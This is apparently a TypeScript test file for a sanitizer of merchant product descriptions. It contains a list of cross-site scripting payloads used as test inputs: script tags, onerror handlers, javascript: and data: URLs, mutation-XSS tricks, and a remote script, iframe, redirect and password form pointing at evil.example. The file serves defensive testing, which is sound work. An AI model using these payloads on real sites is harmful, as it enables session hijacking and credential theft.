import assert from 'node:assert/strict';
import test from 'node:test';
import fc from 'fast-check';
import { losesContent, sanitizeDescription } from './sanitize-description.ts';

test('text, headings, lists, tables and links stay', () => {
  const html =
    '<p>Oak &amp; felt<br />quiet</p><ul><li><b>Two</b></li></ul><table><tbody><tr><td colspan="2">5 W</td></tr></tbody></table>';
  assert.equal(sanitizeDescription(html), html);
  assert.equal(sanitizeDescription('Plain text, 5 < 6 & "so"'), 'Plain text, 5 &lt; 6 &amp; "so"');
  assert.equal(sanitizeDescription('<h1>Big</h1>'), '<h2>Big</h2>');
  assert.equal(
    sanitizeDescription('<a href="https://a.example/x" target="_blank" rel="opener" onclick="x()">a</a>'),
    '<a href="https://a.example/x" rel="noopener nofollow">a</a>',
  );
  assert.equal(
    sanitizeDescription('<a href="mailto:a@b.example">a</a>'),
    '<a href="mailto:a@b.example" rel="noopener nofollow">a</a>',
  );
});

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/admin">x</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="y">x</p>',
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="x">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<textarea><script>alert(1)</script></textarea>',
];

/** Every tag of the result is one of ours, with our attributes only. */
function assertHarmless(html: string) {
  const harmless =
    /^<\/?(?:p|br|hr|div|span|h[2-6]|blockquote|pre|code|[uo]l|li|d[ltd]|strong|b|em|i|u|s|small|su[bp]|table|caption|t(?:head|body|foot|r)|t[hd](?: (?:colspan|rowspan)="[^"<>]*")*|a(?: href="(?:https?|mailto):[^"<>]*" rel="noopener nofollow")?)(?: \/)?>$/i;
  for (const tag of html.match(/<[^>]*>?/g) ?? []) assert.match(tag, harmless, html);
}

test('nothing that runs, frames, styles or leaves comes through', () => {
  for (const attack of attacks) assertHarmless(sanitizeDescription(attack));
});

test('no mixture of attacks comes through, however often it is sanitized', () => {
  const pieces = [
    ...attacks,
    '<',
    '>',
    '"',
    "'",
    '&lt;',
    '&#60;',
    '</',
    '<p',
    '<a href=',
    ' ',
    'x',
    '\0',
    '<!--',
    '-->',
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
      const once = sanitizeDescription(parts.join(''));
      assertHarmless(once);
      assertHarmless(sanitizeDescription(once));
    }),
    { numRuns: 500 },
  );
});

test('a merchant hears of what he would miss', () => {
  assert.equal(losesContent('<p>a <img src="x"></p>'), true);
  assert.equal(losesContent('<p class="x">a</p>'), false);
});
